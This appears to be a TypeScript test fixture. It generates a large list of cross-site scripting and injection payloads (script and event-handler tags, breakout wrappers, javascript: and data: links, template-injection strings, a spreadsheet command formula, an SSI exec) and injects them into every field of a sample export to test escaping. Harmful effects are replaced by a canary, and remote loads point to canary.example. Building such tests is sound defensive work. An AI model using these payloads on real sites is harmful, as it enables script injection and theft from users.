// Three hundred texts that would run, load, or break out in a page that forgets to escape, and a pack full of them.
// Each says `canary` where it would do harm.
import { type Entry, kindOf, parseEntry } from "../../src/core/entry.ts";
import type { ExportInput } from "../../src/core/export.ts";
import { type Kind, pupdate } from "../../src/core/schema.ts";
import { sampleInput } from "./sample.ts";
import { pageFiles } from "./sample-pages.ts";

const act = "window.canary=1";
const away = "https://canary.example/x";

const tags = [
  `<script>${act}</script>`,
  `<script src=${away}></script>`,
  `<img src=x onerror=${act}>`,
  `<img src=${away}>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  `<iframe src=${away}></iframe>`,
  `<iframe srcdoc="<script>parent.canary=1</script>"></iframe>`,
  `<object data=${away}></object>`,
  `<embed src=${away}>`,
  `<video src=x onerror=${act}></video>`,
  `<audio src=${away} autoplay>`,
  `<details open ontoggle=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<body onload=${act}>`,
  `<link rel=stylesheet href=${away}>`,
  `<link rel=prefetch href=${away}>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href=https://canary.example/>`,
  `<style>@import url(${away});</style>`,
  `<style>*{background:url(${away})}</style>`,
  `<form action=${away}><button autofocus>go</button></form>`,
  `<marquee onstart=${act}>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<a href="javascript:${act}">press</a>`,
  `<div style="background:url(${away})">`,
  `<portal src=${away}>`,
];
const around: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</code></pre></details></main>${text}`,
  (text) => `--> ${text} <!--`,
  (text) => `]]>${text}<![CDATA[`,
  (text) => `</script>${text}`,
  (text) => text.replace(/<(\w)/g, (_, c: string) => `<${c.toUpperCase()}`),
];
const links = [
  `[press](javascript:${act})`,
  `[press](JaVaScRiPt:${act})`,
  `[press](java\tscript:${act})`,
  `[press](&#106;avascript:${act})`,
  `[press](javascript&colon;${act})`,
  `[press](vbscript:${act})`,
  `[press](data:text/html,<script>${act}</script>)`,
  `[press](data:text/html;base64,PHNjcmlwdD5jYW5hcnk9MTwvc2NyaXB0Pg==)`,
  `[press](blob:${away})`,
  `[press](//canary.example/x)`,
  `[press](https://canary.example/" onmouseover="${act})`,
  `[press](<javascript:${act}>)`,
  `[press]( javascript:${act})`,
  `[a]\n\n[a]: javascript:${act}`,
  `<javascript:${act}>`,
  `![look](${away})`,
  `![look](x" onerror="${act})`,
  `[![look](${away})](javascript:${act})`,
  `[x](#" onclick="${act})`,
  `[x](../../../../canary.md)`,
];
const others = [
  `\${${act}}`,
  `{{constructor.constructor('${act}')()}}`,
  `<%= ${act} %>`,
  `{${act}}`,
  `import x from "${away}"`,
  `export const canary = 1`,
  `<Canary client:load />`,
  `" onmouseover="${act}" x="`,
  `' onfocus='${act}' autofocus='`,
  `\` onclick=\`${act}`,
  `x onerror=${act}`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;img src=x onerror=${act}&#62;`,
  `\u202e<script>${act}</script>`,
  `\ufeff<script>${act}</script>`,
  `\u2028<script>${act}</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<<script>${act}//<</script>`,
  `<img/src=x/onerror=${act}>`,
  `<svg/onload=${act}//`,
  `<script\n>${act}</script\n>`,
  `<x onclick=${act} tabindex=1 id=main autofocus>`,
  `\`\`\`html\n<script>${act}</script>\n\`\`\``,
  `| a |\n| - |\n| <img src=x onerror=${act}> |`,
  `- [ ] <img src=x onerror=${act}>`,
  `> <script>${act}</script>`,
  `# <script>${act}</script>`,
  `__proto__ canary`,
  `constructor[canary]`,
  `"},"canary":{"x":"`,
  `'; alert("canary"); //`,
  `=cmd|' /C canary'!A0`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `url(${away})`,
  `expression(${act})`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `<!--#exec cmd="canary"-->`,
  `<?php canary ?>`,
];

export const payloads = [...new Set([...around.flatMap((wrap) => tags.map(wrap)), ...links, ...others])];

/** Fields of a kind with values that are fine; all that take any text will get a payload instead. */
const shapes: [kind: Kind, path: (n: number) => string, fields: Record<string, unknown>, group: number][] = [
  [
    "reflection",
    (n) => `reflections/2026/11/x-${n}.md`,
    {
      timestamp: "2026-11-21T07:00:00Z",
      title: "t",
      goal: "t",
      intended_effect: "t",
      surprise: "t",
      technique: "t",
      domain: "t",
      host: "t",
      agent: "t",
      runtime: "t",
      session_id: "t",
      outcome: "partial",
    },
    1,
  ],
  [
    "job",
    (n) => `jobs/2026/11/21/x-${n}.md`,
    {
      task: "t",
      agent: "t",
      host: "t",
      state: "lost",
      run: {
        occurrence: "t",
        run_id: "t",
        requested_by: "t",
        epoch: 1,
        tick: "t",
        claimed_at: "2026-11-21T08:05:00Z",
        deadline: "2m",
        input_hash: "t",
        why: "t",
        runtime: "t",
        session: "t",
        signal: "t",
      },
    },
    3,
  ],
  [
    "task",
    (n) => `tasks/x-${n}.md`,
    { title: "t", agent: "t", hosts: "t", after: ["t"], every: "t", domain: "t", priority: 1 },
    6,
  ],
  [
    "memo",
    (n) => `memos/2026/11/x-${n}.md`,
    { kind: "ask", title: "t", subject: "t", created: "2026-11-19T05:00:00Z", expires: "2026-11-29T05:00:00Z" },
    12,
  ],
  [
    "host",
    (n) => `hosts/x-${n}.md`,
    { address: "192.0.2.9", labels: ["t"], cordon: "t", network: "t", arch: "t", runtimes: ["t"] },
    12,
  ],
  ["agent", (n) => `agents/x-${n}.md`, { runtime: "shell", model: "t", hosts: "t", labels: ["t"] }, 12],
  [
    "rule",
    (n) => `rules/x-${n}.md`,
    { when: { kind: "t", title: { contains: "t" } }, then: [{ memo: "t" }], title: "t" },
    12,
  ],
  ["insight", (n) => `insights/x-${n}.md`, { title: "t", sources: ["t"], applies: "t", domain: "t" }, 12],
  [
    "learning",
    (n) => `learnings/x-${n}.md`,
    { title: "t", sources: ["t"], applies: "t", tags: ["t"], domain: "t" },
    12,
  ],
];

/** Every `t` in a value replaced. */
function filled(value: unknown, text: string): unknown {
  if (value === "t") return text;
  if (Array.isArray(value)) return value.map((one) => filled(one, text));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, filled(one, text)]));
}

type Fields = Record<string, unknown>;
const needed = new Set(["title", "task", "subject", "when", "then", "run", "sources"]);
const holds = (value: unknown) => JSON.stringify(value).includes('"t"');
const isMap = (value: unknown): value is Fields => typeof value === "object" && value !== null && !Array.isArray(value);

/** Every field that takes a text; of a map each by itself. */
const placesOf = (fields: Fields): [string, string?][] =>
  Object.entries(fields).flatMap(([key, value]): [string, string?][] =>
    isMap(value) && key === "run"
      ? Object.keys(value)
          .filter((inner) => value[inner] === "t")
          .map((inner) => [key, inner])
      : holds(value)
        ? [[key]]
        : [],
  );

/** The record with the text in as many fields as take it, so that it is a record still. */
function poisoned(kind: Kind, path: string, fields: Record<string, unknown>, text: string): Entry {
  const written = (some: Record<string, unknown>) =>
    `---\n${Object.entries(some)
      .map(([key, value]) => `${key}: ${JSON.stringify(value)}`)
      .join("\n")}\n---\n${text}\n`;
  const parse = (some: Record<string, unknown>) =>
    parseEntry(path, kindOf(path) as Kind, written(some)).entry as Entry | null;
  const line = text.replace(/[\s\u2028]+/g, " ");
  let best = filled(
    Object.fromEntries(Object.entries(fields).filter(([key]) => needed.has(key) || !holds(fields[key]))),
    "plain",
  ) as Fields;
  for (const [key, inner] of placesOf(fields))
    for (const word of [text, line, "plain"]) {
      const value = inner === undefined ? filled(fields[key], word) : { ...(best[key] as Fields), [inner]: word };
      const tried = { ...best, [key]: value };
      if (!parse(tried)) continue;
      best = tried;
      break;
    }
  const entry = parse(best);
  if (!entry)
    throw new Error(
      `no ${kind} can be made: ${JSON.stringify(parseEntry(path, kindOf(path) as Kind, written(best)).problems.map((one) => one.message))}`,
    );
  return entry;
}

const chunked = (size: number) =>
  Array.from({ length: Math.ceil(payloads.length / size) }, (_, n) =>
    payloads.slice(n * size, (n + 1) * size).join("\n"),
  );

/** The quiet pack with all payloads in every kind of record, and in all that lies beside the records. */
export function poisonedInput(): ExportInput {
  const quiet = sampleInput("quiet");
  const all = payloads.join("\n");
  const entries = shapes.flatMap(([kind, path, fields, group]) =>
    chunked(group).map((text, n) => poisoned(kind, path(n), fields, text)),
  );
  const heard = chunked(6).map((text, n) => {
    const line = text.replace(/\s+/g, " ");
    const words = {
      source: line.slice(0, 60),
      kind: "job.failed",
      subject: line,
      title: line,
      rule: "failed-job",
      url: `javascript:${act}`,
    };
    return (
      pupdate.safeParse({ id: `x${n}`, at: "2026-11-21T05:00:00Z", ...words }).data ??
      pupdate.parse({
        id: `x${n}`,
        at: "2026-11-21T05:00:00Z",
        source: "s",
        kind: "job.failed",
        subject: "s",
        title: line,
      })
    );
  });
  const beside = (quiet.beside?.files ?? new Map()) as ReadonlyMap<string, string>;
  return {
    ...quiet,
    settings: { ...quiet.settings, name: `harbour ${tags[2]}` },
    entries: [...quiet.entries, ...entries],
    pupdates: [...quiet.pupdates, ...heard],
    problems: [
      ...quiet.problems,
      { path: "tasks/x.md", line: 1, column: 1, level: "error", code: "x", message: all, fix: all },
    ],
    overview: `# x\n\n${all.replaceAll("\n", " ")}\n`,
    files: pageFiles(Date.parse("2026-11-21T08:12:00Z"), all),
    beside: {
      files: new Map([...beside].map(([path, text]) => [path, `${text}\n${all}`])),
      reviews: quiet.beside?.reviews ?? new Map(),
    },
  };
}
